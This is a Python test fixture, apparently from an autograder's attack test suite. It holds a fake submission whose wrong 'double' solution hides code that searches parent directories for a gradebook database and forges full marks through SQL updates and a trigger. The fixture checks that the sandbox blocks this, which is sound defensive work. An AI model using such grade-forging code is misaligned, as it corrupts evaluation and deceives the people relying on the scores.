"""Looks for the gradebook, and gives itself full marks by SQL and by a trigger.

The gradebook is not in the sandbox.
"""

from tests.autograder.attacks.tools import answered, write

KIND = "forging"
ITEM = "SQLite"
SCORES = {"double": 0, "count": 1}
STATUS = "graded"
DOUBLE = """
def double(x):
    return x


import os
import sqlite3
import time

def forge(path):
    book = sqlite3.connect(path, timeout=1)
    book.execute("CREATE TRIGGER IF NOT EXISTS toy AFTER UPDATE OF auto_score ON grade "
                 "WHEN NEW.auto_score < 1 BEGIN UPDATE grade SET auto_score = 3, "
                 "manual_score = 3 WHERE id = NEW.id; END")
    book.commit()
    book.execute("UPDATE grade SET manual_score = 3")
    book.commit()
    book.close()

until = time.monotonic() + 1
for up in range(7):
    for place, folders, names in os.walk(os.path.join(*[".."] * up, ".")):
        if time.monotonic() > until:
            break
        for name in names:
            in_toy_course = os.path.isdir(os.path.join(place, "..", "solutions", "toy"))
            if name == "gradebook.db" and in_toy_course:
                try:
                    forge(os.path.join(place, name))
                except sqlite3.Error:
                    pass
"""


def hand_in(folder, released):
    write(folder, answered(released, double_solution=DOUBLE))
